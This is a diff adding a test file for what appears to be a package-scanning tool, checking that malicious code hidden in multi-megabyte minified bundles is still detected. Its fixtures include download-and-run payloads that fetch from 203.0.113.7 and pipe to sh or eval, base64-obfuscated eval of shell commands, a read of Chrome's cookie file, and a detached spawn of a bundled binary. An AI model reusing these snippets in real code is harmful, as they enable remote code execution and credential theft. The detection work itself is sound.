@@ -1,0 +1,169 @@
+import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { analyzeJavaScript, SPARSE_ABOVE, SPARSE_WINDOWS } from './javascript.js';
+import { staticPass } from './pass.js';
+import { SignalCollector, type Budget } from './source.js';
+
+/**
+ * Large bundles are read sparsely (windows around sink tokens): a payload in the middle of a
+ * multi-megabyte minified bundle must still be found, at its file and line, exactly as when the
+ * same code is a small file parsed whole; a clean bundle full of benign sink tokens stays clean.
+ */
+
+const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
+
+/** One webpack-style module of realistic minified code; one in 32 carries a benign sink token, as real bundles do. */
+function realisticModule(i: number): string {
+  const benign = i % 32 !== 0 ? '' : [
+    `var g=Function("return this")();`,
+    `if(typeof process!=="undefined"&&process.platform==="win32"){a.sep="\\\\"}`,
+    `var u=/Firefox\\/(\\d+)/.exec(navigator.userAgent);`,
+    `var cp=require("child_process");function git(a){return cp.spawnSync("git",["rev-parse",a],{encoding:"utf8"}).stdout}`,
+    `setTimeout(function(){o.flush()},0);`,
+    `var msg="eval is not supported in this environment";`,
+    `var ${'tpl' + i}=new Function("d","return d.a+d.b");`,
+    `https.get("https://registry.npmjs.org/"+n,function(r){r.on("data",function(c){s+=c})});`,
+  ][(i / 32) % 8]!;
+  return (
+    `/***/ ${i}:function(e,t,n){"use strict";Object.defineProperty(t,"__esModule",{value:!0});var r=n(${i + 1}),o=n(${i + 7});` +
+    `function i${i}(e){return e&&e.__esModule?e:{default:e}}${benign}` +
+    `t.default=function(e,s){if(!e)throw new TypeError("Invalid argument "+s+" at ${i}");return Object.keys(e).map(function(n){return r.format(e[n],s,{depth:${i % 9}})}).join(",")};` +
+    `t.parse${i}=function(e){for(var t=[],n=0;n<e.length;n++){var c=e.charCodeAt(n);c<128?t.push(c):t.push(63)}return String.fromCharCode.apply(null,t)};},\n`
+  );
+}
+
+/** A minified bundle of about `bytes` bytes, with `payload` on its own line in the middle. Returns the payload's first line. */
+function bundle(bytes: number, payload = ''): { text: string; line: number } {
+  const parts: string[] = ['(()=>{var __webpack_modules__={\n'];
+  let size = parts[0]!.length;
+  let i = 0;
+  let line = 0;
+  while (size < bytes) {
+    if (payload && line === 0 && size >= bytes / 2) {
+      line = parts.join('').split('\n').length;
+      parts.push(`/***/ 99999:function(e,t,n){${payload}},\n`);
+    }
+    const m = realisticModule(i++);
+    parts.push(m);
+    size += m.length;
+  }
+  parts.push('};})();\n');
+  return { text: parts.join(''), line };
+}
+
+function budget(): Budget {
+  return { deadline: Date.now() + 60_000, maxDepth: 6, maxSignals: 400, maxPerFileKind: 5 };
+}
+
+function analyze(text: string, file = 'dist/bundle.js') {
+  const out = new SignalCollector(budget());
+  const result = analyzeJavaScript(text, { file, reach: ['import'], depth: 0 }, out, budget());
+  return { result, signals: out.signals };
+}
+
+const PAYLOADS: Record<string, { code: string; kind: string }> = {
+  'exec of base64-decoded data': {
+    code: `var k="${b64('require("child_process").execSync("id")')}";\nvar d=Buffer.from(k,"base64").toString();\neval(d)`,
+    kind: 'exec-decoded',
+  },
+  'download and run': {
+    code: `function u(){var h=require("https");h.get("http://203.0.113.7/stage2.js",function(r){var b=[];r.on("data",function(c){b.push(c)});\nr.on("end",function(){eval(Buffer.concat(b).toString())})})}u()`,
+    kind: 'exec-fetched',
+  },
+  'download appended to a string and run': {
+    code: `var b="";require("https").get("http://203.0.113.7/s.js",function(r){r.on("data",function(c){b+=c});\nr.on("end",function(){eval(b)})})`,
+    kind: 'exec-fetched',
+  },
+  'aliased eval of atob': {
+    code: `var x=eval;\nx(atob("${b64('console.log(process.env)')}"))`,
+    kind: 'exec-decoded',
+  },
+  'shell download piped to sh': {
+    code: `require("child_process").exec("curl -s http://203.0.113.7/i.sh | sh")`,
+    kind: 'download-run',
+  },
+};
+
+describe('sparse reading of large bundles', () => {
+  it('keeps whole-file parsing below the size bound', () => {
+    const small = bundle(SPARSE_ABOVE / 2, PAYLOADS['exec of base64-decoded data']!.code);
+    expect(small.text.length).toBeLessThan(SPARSE_ABOVE);
+    expect(analyze(small.text).result.limits).toBeUndefined();
+  });
+
+  for (const [name, { code, kind }] of Object.entries(PAYLOADS)) {
+    it(`finds ${name} in the middle of a 3 MB bundle, at the same line as in a small file`, () => {
+      const alone = analyze(`${code}\n`);
+      const hit = alone.signals.find((s) => s.kind === kind);
+      expect(hit, `the whole-file walker finds ${name}`).toBeDefined();
+      const big = bundle(3_000_000, code);
+      expect(big.text.length).toBeGreaterThan(SPARSE_ABOVE);
+      const { signals } = analyze(big.text);
+      const found = signals.filter((s) => s.kind === kind);
+      expect(found.map((s) => `${s.file}:${s.line}`)).toEqual([`dist/bundle.js:${big.line + hit!.line - 1}`]);
+    });
+  }
+
+  it('follows an eval alias bound far from its call', () => {
+    const far = `var run=eval;${realisticModule(1).repeat(20)}\nrun(Buffer.from("${b64('process.exit(3)')}","base64").toString())`;
+    expect(far.indexOf('run(') - far.indexOf('var run')).toBeGreaterThan(SPARSE_WINDOWS.before + SPARSE_WINDOWS.after);
+    const big = bundle(2_500_000, far);
+    const { signals } = analyze(big.text);
+    const callLine = big.line + far.slice(0, far.indexOf('run(')).split('\n').length - 1;
+    expect(signals.filter((s) => s.kind === 'exec-decoded').map((s) => s.line)).toEqual([callLine]);
+  });
+
+  it('scans a browser profile path that no sink token marks, far from any sink', () => {
+    const steal = `var d=require("fs").readFileSync(process.env.HOMEDRIVE+"\\\\Users\\\\u\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Cookies")`;
+    const big = bundle(2_000_000, steal);
+    const { signals } = analyze(big.text);
+    expect(signals.filter((s) => s.kind === 'credential-path').map((s) => `${s.target}:${s.line}`)).toEqual([`browser:${big.line}`]);
+  });
+
+  it('finds nothing in a clean 4 MB bundle full of benign sink tokens', () => {
+    const clean = bundle(4_000_000);
+    const { result, signals } = analyze(clean.text);
+    // A Windows check alone is dropped by the pass (it only matters beside a payload).
+    expect(signals.filter((s) => s.kind !== 'platform-gate').map((s) => `${s.kind}:${s.line}: ${s.detail}`)).toEqual([]);
+    expect(result.parsed).toBe(true);
+  });
+
+  it('says so when the window cap leaves sink sites unread', () => {
+    const many = Array.from({ length: SPARSE_WINDOWS.max + 50 }, (_, i) => `var f${i}=new Function("return ${i}");${'var pad=1;'.repeat(800)}\n`).join('');
+    const { result } = analyze(many);
+    expect(result.limits?.join(' ')).toMatch(/read sparsely: 50 sink sites beyond the 200-window cap/);
+  });
+});
+
+describe('sparse reading in the pass', () => {
+  let dir = '';
+  beforeAll(async () => {
+    dir = await mkdtemp(path.join(os.tmpdir(), 'vetbox-sparse-'));
+  });
+  afterAll(async () => {
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  it('links a spawn of a bundled executable in a 2 MB main bundle to the binary', async () => {
+    const pkg = path.join(dir, 'dropper');
+    await mkdir(path.join(pkg, 'bin'), { recursive: true });
+    const spawn = `var c=require("child_process"),p=require("path");\nc.spawn(p.join(__dirname,"bin","helper"),[],{detached:!0,stdio:"ignore"}).unref()`;
+    const big = bundle(2_000_000, spawn);
+    await writeFile(path.join(pkg, 'package.json'), JSON.stringify({ name: 'dropper', version: '1.0.0', main: 'index.js' }));
+    await writeFile(path.join(pkg, 'index.js'), big.text);
+    // An ELF executable header (type EXEC), nothing runnable after it.
+    const elf = Buffer.alloc(64);
+    elf.write('\x7fELF', 0, 'latin1');
+    elf[4] = 2;
+    elf[5] = 1;
+    elf.writeUInt16LE(2, 16);
+    await writeFile(path.join(pkg, 'bin', 'helper'), elf);
+    await chmod(path.join(pkg, 'bin', 'helper'), 0o755);
+    const r = await staticPass({ ecosystem: 'npm', name: 'dropper', packageDir: pkg });
+    const launch = r.signals.find((s) => s.kind === 'launches-bundled-executable');
+    expect(launch && `${launch.file}:${launch.line}`).toBe(`index.js:${big.line + 1}`);
+    expect(r.bytesAnalyzed).toBeGreaterThan(2_000_000);
+  });
+});
